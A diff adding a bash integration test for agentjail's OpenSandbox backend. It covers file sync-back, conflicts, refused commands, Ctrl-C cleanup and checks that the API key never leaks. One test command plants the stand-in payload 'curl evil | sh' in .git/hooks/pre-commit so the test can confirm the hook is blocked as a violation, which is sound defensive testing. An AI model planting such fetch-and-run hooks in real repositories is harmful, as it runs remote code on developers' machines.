@@ -1,0 +1,128 @@
+#!/usr/bin/env bash
+# `agentjail run --backend opensandbox` end to end against the stand-in (tests/standin/, doc/
+# design.md §4.6), as root and as an unprivileged user: the exit status and the output streamed;
+# a file changed in the sandbox comes back, a new .git/hooks file does not (a violation), a file
+# also changed here during the run is a conflict and keeps its local content; .gitignore'd files
+# are not uploaded; interactive commands and paths outside the workspace are refused (exit 2);
+# Ctrl-C interrupts the command and deletes the sandbox; a service that never gets ready or drops
+# the stream gives a clear error and a deleted sandbox; the API key never shows in argv, the
+# store, the output or --dry-run; the session is in `sessions` and `show`.
+. "$(dirname "$0")/lib.sh"
+aj_setup
+. "$(dirname "$0")/osblib.sh"
+command -v tar >/dev/null || bail "tar is missing"
+
+KEY=sk-osb-$$-$RANDOM-secret
+STANDIN_API_KEY=$KEY osb_start main --ping 0.5 --linger 0.2 --pending 0.3
+MAIN_URL=$OSB_URL MAIN_STATE=$OSB_STATE
+
+config_for() { # WHO URL
+	aj_use "$1"
+	mkdir -p "$HOMEDIR/.config/agentjail"
+	cat >"$HOMEDIR/.config/agentjail/config.toml" <<EOT
+backend = "opensandbox"
+[opensandbox]
+url = "$2"
+api_key_env = "OSB_TEST_KEY"
+timeout = 600
+EOT
+	[ "$1" = user ] && aj_is_root && chown -R "$AJ_USER:" "$HOMEDIR/.config"
+	return 0
+}
+
+fresh_repo() { # WHO
+	aj_fresh_ws "$1"
+	(cd "$WS" && git -c init.defaultBranch=main init -q && echo hello >a.txt &&
+		echo 'build/' >.gitignore && mkdir build && echo generated >build/out &&
+		git -c safe.directory='*' add a.txt .gitignore &&
+		git -c safe.directory='*' -c user.name=t -c user.email=t@t.invalid commit -qm one)
+	[ "$1" = user ] && aj_is_root && chown -R "$AJ_USER:" "$WS"
+	return 0
+}
+
+for who in "${AJ_WHOS[@]}"; do
+	config_for "$who" "$MAIN_URL"
+	fresh_repo "$who"
+	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run -- sh -c \
+		'echo out1; echo err1 >&2; echo; ls -a; cat a.txt; echo changed >a.txt; echo new >new.txt;
+		 mkdir -p .git/hooks; echo "curl evil | sh" >.git/hooks/pre-commit; exit 3'
+	is "$RC" 3 "$who: the command's exit status comes back"
+	like "$OUT" $'^out1\n\n' "$who: stdout streamed, an empty line kept"
+	like "$ERR" 'err1' "$who: stderr streamed to stderr"
+	unlike "$OUT" 'build' "$who: a .gitignore'd directory is not uploaded"
+	like "$OUT" 'hello' "$who: the workspace was uploaded"
+	is "$(cat "$WS/a.txt")" changed "$who: a file changed in the sandbox comes back"
+	is "$(cat "$WS/new.txt" 2>&1)" new "$who: a new file comes back"
+	[ ! -e "$WS/.git/hooks/pre-commit" ]
+	ok $? "$who: a new .git/hooks/pre-commit does not come back"
+	like "$ERR" 'violation: protected path .git/hooks/pre-commit' "$who: and is reported as a violation"
+	is "$(ls -a "$WS" | grep -c agentjail)" 0 "$who: no staging directory or archive left in the workspace"
+	is "$(osb_live)" "" "$who: the sandbox was deleted"
+
+	# a local edit during the run: the stand-in's commands run on this host, so the command
+	# itself can change the local copy while it changes the sandbox's
+	fresh_repo "$who"
+	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run -- sh -c "echo local-edit >'$WS/a.txt'; echo remote >a.txt"
+	is "$RC" 0 "$who: conflict run exits 0"
+	is "$(cat "$WS/a.txt")" local-edit "$who: a file changed here during the run keeps its local content"
+	like "$ERR" 'conflict: a.txt' "$who: and is reported as a conflict"
+
+	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run -- bash
+	is "$RC" 2 "$who: an interactive program is refused with exit 2"
+	like "$ERR" 'interactive' "$who: saying why"
+	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run --rw /etc -- true
+	is "$RC" 2 "$who: --rw outside the workspace is refused"
+	like "$ERR" 'only the workspace' "$who: with the reason"
+	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run --fs read-only -- sh -c 'echo x >a.txt'
+	is "$RC:$(cat "$WS/a.txt")" 0:local-edit "$who: --fs read-only brings nothing back"
+	like "$ERR" 'not brought back' "$who: and says so"
+
+	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run --net allow --allow-domain pypi.org --dry-run -- true
+	is "$RC" 0 "$who: --dry-run"
+	like "$OUT" '"networkPolicy":\{"defaultAction":"deny","egress":\[\{"action":"allow","target":"pypi.org"\}\]\}' \
+		"$who: --net allow is a deny policy with one allow rule per domain"
+	unlike "$OUT$ERR" "$KEY" "$who: --dry-run does not show the key"
+
+	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- sessions
+	like "$OUT" 'sh -c' "$who: the runs are in \`sessions\`"
+	unlike "$(cat "$STATE"/* "$STATE"/*/* 2>/dev/null | tr -d '\0')" "$KEY" "$who: the key is not in the store"
+
+	aj_run "$who" -e OSB_TEST_KEY=wrong-key -- run -- true
+	is "$RC" 125 "$who: a wrong key fails the run (125)"
+	like "$ERR" '401 INVALID_API_KEY' "$who: with the service's {code, message}"
+	unlike "$ERR" 'wrong-key' "$who: without echoing the key"
+done
+
+# ---- Ctrl-C: the command is interrupted and the sandbox deleted (root: signals to our child) ----
+aj_use root
+config_for root "$MAIN_URL"
+fresh_repo root
+aj_cmd root -e OSB_TEST_KEY="$KEY" -- run -- sh -c 'echo started; sleep 60'
+"${AJ_CMD[@]}" </dev/null >"$AJ_TMP/int.out" 2>"$AJ_TMP/int.err" &
+pid=$!
+for i in $(seq 1 100); do grep -q started "$AJ_TMP/int.out" && break; sleep 0.1; done
+is "$(osb_live | wc -l)" 1 "a sandbox exists while the command runs"
+unlike "$(ps -eo args)" "$KEY" "the key is not in any process's argv"
+kill -INT "$pid"
+wait "$pid"
+is "$?" 130 "Ctrl-C: exit 130"
+like "$(cat "$AJ_TMP/int.err")" 'interrupted' "Ctrl-C: says so"
+is "$(osb_live)" "" "Ctrl-C: the stand-in has no sandbox left"
+for i in $(seq 1 30); do pgrep -f '^sleep 60$' >/dev/null || break; sleep 0.1; done
+unlike "$(pgrep -af '^sleep 60$')" 'sleep 60' "Ctrl-C: the command in the sandbox was interrupted"
+
+# ---- a slow or dropped service -------------------------------------------------------------------
+osb_start slow --never-ready
+config_for root "$OSB_URL"
+aj_run root -e OSB_TEST_KEY="$KEY" -e AGENTJAIL_OSB_READY_SECONDS=2 -- run -- true
+is "$RC" 125 "a sandbox that never gets ready: exit 125"
+like "$ERR" 'still Pending after 2 s' "and a clear error"
+is "$(osb_live)" "" "and the sandbox deleted"
+
+osb_start drop --drop-stream-after 1
+config_for root "$OSB_URL"
+aj_run root -e OSB_TEST_KEY="$KEY" -- run -- sh -c 'echo one; echo two; sleep 1'
+is "$RC" 125 "a dropped command stream: exit 125"
+like "$ERR" 'closed the command stream before the command ended' "and a clear error"
+is "$(osb_live)" "" "and the sandbox deleted"
+done_testing
